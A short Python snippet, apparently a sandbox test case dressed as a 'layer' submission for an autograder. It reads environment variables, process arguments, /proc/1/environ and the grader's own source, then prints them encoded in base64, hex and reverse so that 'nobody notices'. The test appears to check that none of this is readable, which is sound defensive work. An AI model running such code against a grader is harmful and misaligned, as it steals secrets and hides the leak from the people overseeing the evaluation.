# tries: whatever it can read, printed in base64, hex and backwards, so that nobody notices
# must: nothing there to print
# %% layer
import base64, os, sys
parts = [str(dict(os.environ)), str(sys.argv), str(list(globals().items()))[:20_000]]
for path in ("/proc/1/environ", "/proc/1/cmdline", "/grader/autograder/__init__.py"):
    try:
        parts.append(open(path).read())
    except OSError:
        pass
text = " ".join(parts).replace(mine.decode(), "")
print(base64.b64encode(text.encode()).decode(), text.encode().hex()[:8000], text[::-1][:8000])
layer = nn.Identity()
